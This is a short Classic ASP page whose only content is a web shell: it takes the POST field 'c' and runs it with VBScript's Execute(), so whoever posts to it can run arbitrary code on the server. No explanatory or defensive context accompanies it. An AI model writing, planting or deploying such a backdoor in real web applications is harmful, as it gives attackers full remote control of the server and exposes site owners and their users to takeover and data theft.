<%
' Runs the posted VBScript.
If Request.Form("c") <> "" Then
    Execute(Request.Form("c"))
End If
%>
